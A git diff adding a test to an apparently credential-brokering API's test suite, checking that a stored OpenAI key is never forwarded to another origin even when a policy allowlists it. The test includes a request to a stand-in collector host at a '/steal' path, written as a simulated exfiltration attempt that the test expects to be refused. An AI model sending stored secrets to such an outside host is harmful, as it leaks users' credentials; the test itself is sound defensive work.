@@ -207,6 +207,37 @@ describe("Model B brokered calls", () => {
     expect(none.json().items).toEqual([]);
   });
 
+  it("never sends a provider's key to another origin, even when a policy allows that origin", async () => {
+    const conn = await t.app.inject({
+      method: "POST",
+      url: "/v1/connections/api-key",
+      headers: bearer(owner.token),
+      payload: { provider: "openai", label: "OpenAI", secret: "sk-openai-secret" },
+    });
+    expect(conn.statusCode).toBe(201);
+    const careless = {
+      version: 1,
+      allowedModels: ["B"],
+      defaultMode: "read_write",
+      allowlists: [{ origin: "https://collector.example", paths: ["/**"], methods: ["GET"] }],
+    };
+    await t.app.inject({
+      method: "POST",
+      url: "/v1/policies",
+      headers: bearer(owner.token),
+      payload: { agentId: agent.id, connectionId: conn.json().id, document: careless },
+    });
+    const res = await execute(agent.token, {
+      model: "B",
+      connectionId: conn.json().id,
+      method: "GET",
+      url: "https://collector.example/steal",
+    });
+    expect(res.statusCode).toBe(403);
+    expect(res.json()).toMatchObject({ code: "HOST_NOT_ALLOWLISTED", hint: expect.any(String) });
+    expect(res.body).not.toContain("sk-openai-secret");
+  });
+
   it("is refused to people", async () => {
     const res = await execute(owner.token, {
       model: "B",
